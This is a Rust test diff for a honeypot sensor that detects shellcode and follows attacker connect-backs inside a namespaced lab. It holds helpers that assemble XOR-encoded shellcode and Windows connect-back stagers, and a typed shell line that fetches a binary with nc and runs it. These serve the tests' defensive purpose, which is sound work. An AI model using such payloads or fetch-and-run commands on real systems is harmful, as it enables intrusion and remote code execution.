@@ -108,6 +108,76 @@ fn fetch(
     })
 }
 
+/// [`fetch`] as a connect-back makes it: `first` sent after connecting, and for a `shell`
+/// what arrived by the deadline kept.
+fn fetch_back(
+    pair: &Pair,
+    server: SocketAddr,
+    first: &[u8],
+    shell: bool,
+    secs: u64,
+) -> (Result<Fetched, Error>, Duration) {
+    let first = first.to_vec();
+    in_netns(&pair.srv.0, move || {
+        let policy = Policy { allow_local: false, sensor: vec![ip(SRV4), ip(SRV6)] };
+        let limits = Limits { max_size: 1 << 20, io_timeout: Duration::from_secs(1), ..Limits::default() };
+        let start = Instant::now();
+        let ctx = Context {
+            local_ip: ip(SRV4),
+            attacker: ip(CLI4),
+            ftp_host: None,
+            policy: &policy,
+            limits: &limits,
+            deadline: start + Duration::from_secs(secs),
+        };
+        (tcp::fetch(server, &first, shell, &ctx), start.elapsed())
+    })
+}
+
+/// A listener in the client namespace that, for each of `n` connections, reads `key_len`
+/// bytes, sends `typed` and stays open and silent for `hold`; the keys it read come back.
+fn shell_server(
+    pair: &Pair,
+    addr: SocketAddr,
+    n: usize,
+    key_len: usize,
+    typed: &'static [u8],
+    hold: Duration,
+) -> std::thread::JoinHandle<Vec<Vec<u8>>> {
+    let l = in_netns(&pair.cli.0, move || TcpListener::bind(addr).unwrap());
+    std::thread::spawn(move || {
+        let mut keys = Vec::new();
+        for _ in 0..n {
+            let (mut c, _) = l.accept().unwrap();
+            c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+            let mut key = vec![0u8; key_len];
+            c.read_exact(&mut key).unwrap();
+            keys.push(key);
+            c.write_all(typed).unwrap();
+            std::thread::sleep(hold);
+        }
+        keys
+    })
+}
+
+#[test]
+fn a_connect_back_sends_its_key_and_a_quiet_shell_keeps_what_was_typed() {
+    if !root_or_skip("a_connect_back_sends_its_key_and_a_quiet_shell_keeps_what_was_typed", &["ip"]) {
+        return;
+    }
+    let pair = Pair::new();
+    let server = shell_server(&pair, sa("10.77.0.2:4460"), 2, 4, b"echo hi\n", Duration::from_secs(5));
+    // A shell: after the deadline (3 s), what was typed is the result.
+    let (r, took) = fetch_back(&pair, sa("10.77.0.2:4460"), b"\xde\xad\xbe\xef", true, 3);
+    let got = r.unwrap();
+    assert_eq!(got.data, b"echo hi\n");
+    assert!(took >= Duration::from_millis(2900) && took < Duration::from_secs(5), "{took:?}");
+    // A file transfer whose sender does not close: no file.
+    let (r, _) = fetch_back(&pair, sa("10.77.0.2:4460"), b"\x01\x02\x03\x04", false, 3);
+    assert!(matches!(r, Err(Error::Timeout)), "{r:?}");
+    assert_eq!(server.join().unwrap(), [b"\xde\xad\xbe\xef".to_vec(), b"\x01\x02\x03\x04".to_vec()]);
+}
+
 #[test]
 fn a_served_file_is_read_until_the_server_closes() {
     if !root_or_skip("a_served_file_is_read_until_the_server_closes", &["ip", PYTHON]) {
@@ -182,9 +252,12 @@ struct Lab {
 }
 
 impl Lab {
+    /// `EVENTS` in `extra` stands for the path of `events.json` in the lab.
     fn start(name: &str, www: &[(&str, &[u8])], tcp: &[(u16, &[u8])], extra: &str) -> Lab {
         let pair = Pair::new();
         let dir = TempDir::new(name);
+        let extra = extra.replace("EVENTS", &dir.join("events.json").display().to_string());
+        let extra = extra.as_str();
         for d in ["downloads", "www", "tmp"] {
             std::fs::create_dir_all(dir.join(d)).unwrap();
             std::fs::set_permissions(dir.join(d), std::fs::Permissions::from_mode(0o755)).unwrap();
@@ -229,8 +302,12 @@ impl Lab {
 
     /// Sends `data` to the sensor from the attacker namespace and closes.
     fn attack(&self, data: &str) {
+        self.attack_bytes(data.as_bytes());
+    }
+
+    fn attack_bytes(&self, data: &[u8]) {
         let to = SocketAddr::new(ip(SRV4), ATTACK_PORT);
-        let data = data.as_bytes().to_vec();
+        let data = data.to_vec();
         in_netns(&self.pair.cli.0, move || {
             let mut s = TcpStream::connect_timeout(&to, Duration::from_secs(3)).expect("connect");
             s.write_all(&data).unwrap();
@@ -334,4 +411,81 @@ fn tcp_caps_in_the_daemon() {
     assert!(t0.elapsed() < Duration::from_secs(12), "{:?}", t0.elapsed());
     holder.join().unwrap();
     assert!(!std::fs::read_dir(lab.dir.join("downloads")).unwrap().any(|_| true));
+}
+
+/// `inner` behind a jmp/call/pop byte-XOR decoder with `key`.
+fn xor_encoded(inner: &[u8], key: u8) -> Vec<u8> {
+    let mut out = b"\x90\x90\x90\x90\xeb\x10\x5a\x4a\x33\xc9\x66\xb9".to_vec();
+    out.extend((inner.len() as u16).to_le_bytes());
+    out.extend([0x80, 0x34, 0x0a, key, 0xe2, 0xfa, 0xeb, 0x05, 0xe8, 0xeb, 0xff, 0xff, 0xff]);
+    out.extend(inner.iter().map(|b| b ^ key));
+    out
+}
+
+/// Windows-style shellcode that connects to `to` (a pushed sockaddr_in, the connect API
+/// hash), followed by `tail`.
+fn win_connect(to: SocketAddr, tail: &[u8]) -> Vec<u8> {
+    let IpAddr::V4(v4) = to.ip() else { panic!("IPv4 only") };
+    let mut out = b"\xfc\xe8\x82\x00\x00\x00\x60\x89\xe5\x68".to_vec();
+    out.extend(v4.octets());
+    out.extend(b"\x68\x02\x00");
+    out.extend(to.port().to_be_bytes());
+    out.extend(b"\x89\xe6\x6a\x10\x56\x57\x68\x99\xa5\x74\x61\xff\xd5");
+    out.extend(tail);
+    out
+}
+
+#[test]
+fn shellcode_connect_backs_and_urls_are_followed() {
+    if !lab_tools("shellcode_connect_backs_and_urls_are_followed") {
+        return;
+    }
+    let (a, f, u) = (sample(31, 20_000), sample(32, 60_000), sample(33, 9_000));
+    let sigs = concat!(env!("CARGO_MANIFEST_DIR"), "/contrib/shellcode-signatures.sc");
+    let extra = format!(
+        "download_timeout = \"4\"\n\
+         plugin-cspm = {{\n shellcode_sigfile = \"{sigs}\"\n follow_connectback = \"yes\"\n}}\n\
+         plugin-logEvents = {{ logfile = \"EVENTS\" }}"
+    );
+    let lab = Lab::start("download_tcp_lab_cspm", &[("u.exe", &u)], &[(4444, &a), (4450, &f)], &extra);
+
+    // An encoded stager: the stage is what the connect-back reads.
+    let stager = win_connect(sa("10.77.0.2:4450"), b"\x6a\x00\x6a\x04\x56\x57\x68\x02\xd9\xc8\x5f\xff\xd5");
+    lab.attack_bytes(&xor_encoded(&stager, 0x99));
+    lab.expect_log("CSPM - Shellcode recognised by connectbackfiletransfer::win_stager_recv, connects back to 10.77.0.2:4450, after xor::jmp_call_pop_byte (key 0x99).");
+    lab.expect_download("connectbackfiletransfer-10.77.0.2-4450", &f);
+    let events = lab.dir.join("events.json");
+    assert!(
+        wait_until(T, || read(&events).contains("\"eventid\":\"honeytrap.session.shellcode\"")),
+        "{}",
+        read(&events)
+    );
+    let line = read(&events).lines().find(|l| l.contains("honeytrap.session.shellcode")).unwrap().to_string();
+    for field in [
+        "\"signature\":\"connectbackfiletransfer::win_stager_recv\"",
+        "\"kind\":\"connectbackfiletransfer\"",
+        "\"decoders\":[\"xor::jmp_call_pop_byte (key 0x99)\"]",
+        "\"host\":\"10.77.0.2\"",
+        "\"port\":4450",
+    ] {
+        assert!(line.contains(field), "{field} not in {line}");
+    }
+
+    // A connect-back shell that types a download command and stays open: what it typed is
+    // kept when download_timeout ends, and the command's file is fetched.
+    let typed = b"nc 10.77.0.2 4444 > .x; chmod +x .x; ./.x\n";
+    let shell = shell_server(&lab.pair, sa("10.77.0.2:4451"), 1, 0, typed, Duration::from_secs(8));
+    let code = win_connect(sa("10.77.0.2:4451"), b"\x68\x63\x6d\x64\x00\x89\xe3\x57\x57\x57");
+    lab.attack_bytes(&xor_encoded(&code, 0x41));
+    lab.expect_download("connectbackshell-10.77.0.2-4451", typed);
+    lab.expect_download(".x", &a);
+    shell.join().unwrap();
+
+    // A URL in encoded shellcode is fetched.
+    lab.attack_bytes(&xor_encoded(b"\x90\x90http://10.77.0.2/u.exe\x00\x90", 0x23));
+    lab.expect_download("u.exe", &u);
+
+    // A connect-back to loopback is refused by the download address policy.
+    lab.attack_bytes(&win_connect(sa("127.0.0.1:4450"), b"\x68\x02\xd9\xc8\x5f\xff\xd5"));
+    lab.expect_log("TCP download error - tcp://127.0.0.1:4450: refused: 127.0.0.1 is a loopback address.");
 }
